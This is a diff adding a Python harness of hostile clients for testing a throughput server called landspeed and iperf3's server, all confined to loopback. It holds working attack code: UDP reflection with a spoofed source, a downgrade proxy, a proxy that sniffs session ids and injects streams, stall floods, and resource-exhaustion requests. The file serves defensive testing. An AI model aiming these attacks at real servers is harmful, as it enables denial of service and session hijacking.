@@ -1,0 +1,490 @@
+#!/usr/bin/env python3
+"""Small hostile clients for a public throughput server: each speaks just enough of one protocol
+(landspeed's, iperf3's, ndt7's) to attack, and prints one JSON object with what it saw.
+
+They share no code with landspeed: the wire formats are written here from docs/protocol.md and
+iperf3's protocol, so a landspeed bug cannot hide itself in its own encoder. Every loop is bounded in
+time and count, and every address is on loopback (127.0.0.0/8). Used by the attack tests
+(crates/cli/tests/it/attacks.rs) and by bench/attacks/run, which runs each against `landspeed serve`
+and against iperf3 3.21's `iperf3 -s`.
+
+  hostile.py udp-spoof --port P --proto landspeed|iperf3 [--victim 127.0.0.2] [--rate 100M] [--time 3]
+  hostile.py udp-nat --port P [--victim 127.0.0.2]      (a NAT'd client that answers the challenge)
+  hostile.py downgrade-proxy --port P --listen L --hold S
+  hostile.py inject-proxy --port P --listen L --hold S
+  hostile.py stall-flood --port P --source 127.0.0.3 --count 1000 --hold S [--ndt7]
+  hostile.py random-sessions --port P --count 10000
+  hostile.py worst-request --port P [--streams N --length BYTES]
+"""
+
+import argparse
+import json
+import os
+import select
+import socket
+import struct
+import sys
+import threading
+import time
+
+MAGIC = b"LSPD"
+VERSION = 1
+
+
+def frame(obj):
+    body = json.dumps(obj).encode()
+    return struct.pack(">I", len(body)) + body
+
+
+def control_preamble():
+    return MAGIC + struct.pack(">H", VERSION) + b"C\0"
+
+
+def data_preamble(session_hex, stream):
+    return MAGIC + struct.pack(">H", VERSION) + b"D\0" + bytes.fromhex(session_hex) + struct.pack(">I", stream)
+
+
+def hello_msg(auth=None):
+    m = {"type": "hello", "version": VERSION, "software": "hostile"}
+    if auth:
+        m["auth"] = auth
+    return m
+
+
+def spec(transport="tcp", direction="forward", seconds=3.0, streams=1, rate=None, length=1448):
+    s = {"streams": streams, "length_bytes": length, "end": {"time": float(seconds)}, "omit_s": 0.0,
+         "direction": direction, "window_bytes": None, "congestion": None, "mss": None,
+         "nodelay": False, "fq_rate_bps": None, "interval_s": 1.0, "server_threads": None,
+         "server_cpus": None, "verify": True, "payload_key": 7, "rx": "copy", "tx": "copy",
+         "io": "epoll", "queue_depth": 1, "transport": transport, "rate_bps": rate, "burst": 16}
+    return s
+
+
+class Frames:
+    """Reads length-prefixed JSON frames from a socket, within a deadline."""
+
+    def __init__(self, sock):
+        self.sock, self.buf = sock, b""
+
+    def read(self, timeout=5.0):
+        end = time.monotonic() + timeout
+        while True:
+            if len(self.buf) >= 4:
+                n = struct.unpack(">I", self.buf[:4])[0]
+                if n > 8 << 20:
+                    raise ValueError("frame too long")
+                if len(self.buf) >= 4 + n:
+                    body, self.buf = self.buf[4:4 + n], self.buf[4 + n:]
+                    return json.loads(body)
+            left = end - time.monotonic()
+            if left <= 0:
+                return None
+            self.sock.settimeout(left)
+            try:
+                chunk = self.sock.recv(65536)
+            except (socket.timeout, OSError):
+                return None
+            if not chunk:
+                return None
+            self.buf += chunk
+
+
+def connect(port, source="127.0.0.1", host="127.0.0.1", timeout=5.0):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(timeout)
+    s.bind((source, 0))
+    s.connect((host, port))
+    return s
+
+
+def rate_bps(text):
+    mult = {"k": 1e3, "K": 1e3, "m": 1e6, "M": 1e6, "g": 1e9, "G": 1e9}
+    return float(text[:-1]) * mult[text[-1]] if text[-1] in mult else float(text)
+
+
+def count_at(sock, seconds):
+    """Bytes and datagrams that arrive at `sock` within `seconds`."""
+    total = datagrams = 0
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        r, _, _ = select.select([sock], [], [], max(0.0, min(0.2, end - time.monotonic())))
+        if not r:
+            continue
+        try:
+            data = sock.recv(65536)
+        except OSError:
+            continue
+        total += len(data)
+        datagrams += 1
+    return total, datagrams
+
+
+def udp_spoof_landspeed(a, victim):
+    """Control from 127.0.0.1 asks for a reverse UDP test; the stream's hello comes from `victim`."""
+    ctl = connect(a.port)
+    ctl.sendall(control_preamble() + frame(hello_msg()))
+    fr = Frames(ctl)
+    welcome = fr.read()
+    if not welcome or welcome.get("type") != "welcome":
+        return {"error": "no welcome: %r" % (welcome,)}
+    ctl.sendall(frame({"type": "test_request",
+                       "spec": spec("udp", "reverse", a.time, rate=rate_bps(a.rate))}))
+    acc = fr.read()
+    if not acc or acc.get("type") != "accepted":
+        return {"error": "not accepted: %r" % (acc,)}
+    hello = data_preamble(acc["session"], 0)
+    sent = 0
+    for _ in range(3):
+        victim.sendto(hello, ("127.0.0.1", a.port))
+        sent += len(hello)
+        time.sleep(0.2)
+    got, datagrams = count_at(victim, a.time + 2.0)
+    ctl.close()
+    return {"sent_from_victim": sent, "received_at_victim": got, "datagrams_at_victim": datagrams}
+
+
+def udp_spoof_iperf3(a, victim):
+    """iperf3's conversation from 127.0.0.1 up to CREATE_STREAMS; its UDP hello from `victim`."""
+    ctl = connect(a.port)
+    cookie = b"hostilehostilehostilehostilehostile2\0"
+    ctl.sendall(cookie)
+    state = ctl.recv(1)
+    if state != b"\x09":
+        return {"error": "no PARAM_EXCHANGE: %r" % (state,)}
+    params = json.dumps({"udp": True, "omit": 0, "time": a.time, "num": 0, "blockcount": 0,
+                         "parallel": 1, "reverse": True, "len": 1460,
+                         "bandwidth": int(rate_bps(a.rate)), "pacing_timer": 1000,
+                         "client_version": "3.21"}).encode()
+    ctl.sendall(struct.pack(">I", len(params)) + params)
+    state = ctl.recv(1)
+    if state != b"\x0a":
+        return {"error": "no CREATE_STREAMS: %r" % (state,), "server_said": state.hex()}
+    hello = b"9876"
+    sent = 0
+    for _ in range(3):
+        victim.sendto(hello, ("127.0.0.1", a.port))
+        sent += len(hello)
+        time.sleep(0.2)
+    got, datagrams = count_at(victim, a.time + 1.0)
+    # iperf3's server sends until the client's TEST_END: say it, so the attack stops here.
+    try:
+        ctl.sendall(b"\x04")
+    except OSError:
+        pass
+    more, more_d = count_at(victim, 1.0)
+    ctl.close()
+    return {"sent_from_victim": sent, "received_at_victim": got + more,
+            "datagrams_at_victim": datagrams + more_d}
+
+
+def udp_nat(a):
+    """Not an attack: a client behind a NAT that maps its UDP to another address than its TCP. Its
+    control connection is from 127.0.0.1, its UDP from --victim; it answers the server's challenge by
+    echoing the token, and counts the test data that then arrives."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((a.victim, 0))
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    sock.settimeout(0.3)
+    ctl = connect(a.port)
+    ctl.sendall(control_preamble() + frame(hello_msg()))
+    fr = Frames(ctl)
+    if (fr.read() or {}).get("type") != "welcome":
+        return {"error": "no welcome"}
+    ctl.sendall(frame({"type": "test_request",
+                       "spec": spec("udp", "reverse", a.time, rate=rate_bps(a.rate))}))
+    acc = fr.read()
+    if not acc or acc.get("type") != "accepted":
+        return {"error": "not accepted: %r" % (acc,)}
+    hello = data_preamble(acc["session"], 0)
+    token, acked = None, False
+    end = time.monotonic() + 5.0
+    while time.monotonic() < end and not acked:
+        sock.sendto(hello + (token or b""), ("127.0.0.1", a.port))
+        try:
+            data = sock.recv(2048)
+        except socket.timeout:
+            continue
+        if data == hello:
+            acked = True
+        elif len(data) == 44 and data[:4] == MAGIC and data[6:7] == b"T" and data[8:28] == hello[8:28]:
+            token = data[28:44]
+    if not acked:
+        return {"attack": "udp-nat", "challenged": token is not None, "acknowledged": False}
+    ctl.sendall(frame({"type": "start"}))
+    got, datagrams = count_at(sock, a.time + 1.0)
+    ctl.close()
+    return {"attack": "udp-nat", "challenged": token is not None, "acknowledged": True,
+            "received": got, "datagrams": datagrams}
+
+
+def udp_spoof(a):
+    victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    victim.bind((a.victim, 0))
+    victim.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    out = (udp_spoof_landspeed if a.proto == "landspeed" else udp_spoof_iperf3)(a, victim)
+    out["attack"] = "udp-spoof"
+    out["proto"] = a.proto
+    if "received_at_victim" in out:
+        out["amplification"] = out["received_at_victim"] / max(1, out["sent_from_victim"])
+    return out
+
+
+def pipe(src, dst, rewrite_first=None, sniff=None, stop=None):
+    """Copies src to dst until either closes or `stop` is set; may rewrite the first byte or look at
+    the bytes (sniff) as they pass."""
+    first = True
+    src.settimeout(0.2)
+    while not (stop and stop.is_set()):
+        try:
+            data = src.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            break
+        if not data:
+            break
+        if first and rewrite_first is not None:
+            data = bytes([rewrite_first]) + data[1:]
+        first = False
+        if sniff:
+            sniff(data)
+        try:
+            dst.sendall(data)
+        except OSError:
+            break
+    for s in (src, dst):
+        try:
+            s.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+
+
+def serve_proxy(a, on_connection):
+    """Accepts on --listen for --hold seconds, handing each connection to on_connection."""
+    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    lst.bind(("127.0.0.1", a.listen))
+    lst.listen(64)
+    print(json.dumps({"listening": lst.getsockname()[1]}), flush=True)
+    end = time.monotonic() + a.hold
+    stop = threading.Event()
+    while time.monotonic() < end:
+        lst.settimeout(max(0.05, min(0.5, end - time.monotonic())))
+        try:
+            c, _ = lst.accept()
+        except socket.timeout:
+            continue
+        threading.Thread(target=on_connection, args=(c, stop), daemon=True).start()
+    stop.set()
+
+
+def downgrade_proxy(a):
+    """A proxy that changes the server's first byte to iperf3's PARAM_EXCHANGE (9)."""
+    seen = {"connections": 0}
+
+    def on(c, stop):
+        seen["connections"] += 1
+        s = connect(a.port)
+        threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
+        pipe(s, c, rewrite_first=9, stop=stop)
+
+    serve_proxy(a, on)
+    return {"attack": "downgrade-proxy", **seen}
+
+
+def inject_proxy(a):
+    """An observer in the path: forwards every connection, reads the session id in `accepted`, and
+    injects data streams quoting it: stream 0 from another address (127.0.0.2), and, right after the
+    client's own stream 0 connects, a duplicate of it from the proxy's own address."""
+    report = {"attack": "inject-proxy", "session": None, "injected": []}
+    lock = threading.Lock()
+
+    def inject(session, source, what):
+        try:
+            s = connect(a.port, source=source)
+            s.sendall(data_preamble(session, 0))
+            s.settimeout(3.0)
+            try:
+                closed = s.recv(1) == b""
+            except socket.timeout:
+                closed = False
+            except OSError:
+                closed = True
+            with lock:
+                report["injected"].append({"what": what, "from": source, "closed_by_server": closed})
+            s.close()
+        except OSError as e:
+            with lock:
+                report["injected"].append({"what": what, "from": source, "error": str(e)})
+
+    def sniffer(buf):
+        def look(data):
+            buf[0] += data
+            while len(buf[0]) >= 4:
+                n = struct.unpack(">I", buf[0][:4])[0]
+                if n > 8 << 20 or len(buf[0]) < 4 + n:
+                    return
+                body, buf[0] = buf[0][4:4 + n], buf[0][4 + n:]
+                try:
+                    m = json.loads(body)
+                except ValueError:
+                    continue
+                # A keyed conversation seals frames with a tag after the JSON; this reads plain ones.
+                if isinstance(m, dict) and m.get("type") == "accepted":
+                    report["session"] = m["session"]
+                    inject(m["session"], "127.0.0.2", "foreign stream 0")
+        return look
+
+    def on(c, stop):
+        first = c.recv(8, socket.MSG_PEEK)
+        s = connect(a.port)
+        if first[6:7] == b"C":
+            threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
+            pipe(s, c, sniff=sniffer([b""]), stop=stop)
+            return
+        head = c.recv(28, socket.MSG_PEEK)
+        stream = struct.unpack(">I", head[24:28])[0] if len(head) == 28 else None
+        if stream:
+            # The client's later streams wait, so the duplicate of stream 0 meets a test still
+            # collecting its streams.
+            time.sleep(0.5)
+        threading.Thread(target=pipe, args=(c, s, None, None, stop), daemon=True).start()
+        if stream == 0 and report["session"]:
+            time.sleep(0.1)
+            threading.Thread(target=inject, args=(report["session"], "127.0.0.1", "duplicate stream 0"),
+                             daemon=True).start()
+        pipe(s, c, stop=stop)
+
+    serve_proxy(a, on)
+    time.sleep(0.5)
+    return report
+
+
+def stall_flood(a):
+    """--count connections from --source, each stalling at a step of the greeting (round robin):
+    connect only, half a preamble, a whole preamble, half a hello, a whole hello (then silence), and
+    for ndt7 half an HTTP request head. Held for --hold seconds, then closed."""
+    held, failed = [], 0
+    steps = [b"", control_preamble()[:4], control_preamble(),
+             (control_preamble() + frame(hello_msg()))[:20], control_preamble() + frame(hello_msg()),
+             control_preamble() + frame(hello_msg({"version": 2, "name": "nobody",
+                                                  "client_nonce": "00" * 32}))]
+    if a.ndt7:
+        steps = [b"", b"GET /ndt/v7/download HTTP/1.1\r\nHost: x\r\n"]
+    for i in range(a.count):
+        try:
+            s = connect(a.port, source=a.source, timeout=2.0)
+            if steps[i % len(steps)]:
+                s.sendall(steps[i % len(steps)])
+            held.append(s)
+        except OSError:
+            failed += 1
+    print(json.dumps({"holding": len(held)}), flush=True)
+    end = time.monotonic() + a.hold
+    closed_early = 0
+    while time.monotonic() < end and held:
+        r, _, _ = select.select(held, [], [], min(0.5, max(0.0, end - time.monotonic())))
+        for s in r:
+            try:
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            if not data:
+                closed_early += 1
+                held.remove(s)
+                s.close()
+    for s in held:
+        s.close()
+    return {"attack": "stall-flood", "opened": a.count - failed, "refused_at_connect": failed,
+            "closed_by_server_within_hold": closed_early}
+
+
+def random_sessions(a):
+    """--count data connections, each quoting a random session id, one after the other."""
+    done = 0
+    for _ in range(a.count):
+        try:
+            s = connect(a.port, timeout=2.0)
+            s.sendall(data_preamble(os.urandom(16).hex(), 0))
+            s.settimeout(2.0)
+            try:
+                s.recv(1)
+            except OSError:
+                pass
+            s.close()
+            done += 1
+        except OSError:
+            pass
+    return {"attack": "random-sessions", "sent": done}
+
+
+def worst_request(a):
+    """The largest test the server's defaults allow: many streams, the largest write, reverse (the
+    server sends, so it holds a payload buffer per stream), connected and held while the server's
+    memory is read."""
+    ctl = connect(a.port)
+    ctl.sendall(control_preamble() + frame(hello_msg()))
+    fr = Frames(ctl)
+    w = fr.read()
+    if not w or w.get("type") != "welcome":
+        return {"error": "no welcome"}
+    sp = spec("tcp", "reverse", a.time, streams=a.streams, length=a.length)
+    sp["server_threads"] = a.streams
+    ctl.sendall(frame({"type": "test_request", "spec": sp}))
+    acc = fr.read()
+    if not acc or acc.get("type") != "accepted":
+        return {"attack": "worst-request", "refused": True, "answer": acc}
+    streams = []
+    for i in range(a.streams):
+        s = connect(a.port)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        s.sendall(data_preamble(acc["session"], i))
+        streams.append(s)
+    ready = fr.read()
+    ctl.sendall(frame({"type": "start"}))
+    print(json.dumps({"running": True, "ready": ready and ready.get("type")}), flush=True)
+    time.sleep(a.time)
+    for s in streams:
+        s.close()
+    ctl.close()
+    return {"attack": "worst-request", "refused": False, "streams": a.streams}
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    sub = p.add_subparsers(dest="cmd", required=True)
+    for name in ("udp-spoof", "udp-nat"):
+        u = sub.add_parser(name)
+        u.add_argument("--port", type=int, required=True)
+        u.add_argument("--proto", choices=["landspeed", "iperf3"], default="landspeed")
+        u.add_argument("--victim", default="127.0.0.2")
+        u.add_argument("--rate", default="100M")
+        u.add_argument("--time", type=float, default=3.0)
+    for name in ("downgrade-proxy", "inject-proxy"):
+        d = sub.add_parser(name)
+        d.add_argument("--port", type=int, required=True)
+        d.add_argument("--listen", type=int, default=0)
+        d.add_argument("--hold", type=float, default=10.0)
+    f = sub.add_parser("stall-flood")
+    f.add_argument("--port", type=int, required=True)
+    f.add_argument("--source", default="127.0.0.3")
+    f.add_argument("--count", type=int, default=1000)
+    f.add_argument("--hold", type=float, default=5.0)
+    f.add_argument("--ndt7", action="store_true")
+    r = sub.add_parser("random-sessions")
+    r.add_argument("--port", type=int, required=True)
+    r.add_argument("--count", type=int, default=10000)
+    w = sub.add_parser("worst-request")
+    w.add_argument("--port", type=int, required=True)
+    w.add_argument("--streams", type=int, default=128)
+    w.add_argument("--length", type=int, default=64 << 20)
+    w.add_argument("--time", type=float, default=3.0)
+    a = p.parse_args()
+    fn = {"udp-spoof": udp_spoof, "udp-nat": udp_nat, "downgrade-proxy": downgrade_proxy, "inject-proxy": inject_proxy,
+          "stall-flood": stall_flood, "random-sessions": random_sessions,
+          "worst-request": worst_request}[a.cmd]
+    print(json.dumps(fn(a)), flush=True)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
